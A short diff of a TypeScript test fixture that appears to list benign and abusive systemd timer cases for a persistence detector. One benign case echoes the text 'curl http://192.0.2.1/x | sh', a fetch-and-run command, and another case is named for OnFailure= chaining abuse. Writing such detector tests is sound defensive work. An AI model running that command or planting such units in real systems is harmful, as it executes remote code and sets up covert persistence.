@@ -139,9 +139,7 @@ export const PEER_CASES: readonly PeerCase[] = [
     isAbuse: false,
     activations: ["system/tw-echo.timer"],
     marks: ["tw-echo"],
-    files: pair("tw-echo", "ExecStart=/usr/bin/echo 'docs: never run curl http://192.0.2.1/x | sh'", {
-      timer: "OnCalendar=daily",
-    }),
+    files: pair("tw-echo", "ExecStart=/usr/bin/echo 'docs: never run curl http://192.0.2.1/x | sh'"),
   },
   abuse("18", "designed failure with OnFailure=", ["tw-chain", "tw-onfail"], {
     [`${SYSTEM}tw-chain.timer`]: timer("tw-chain", MINUTE),
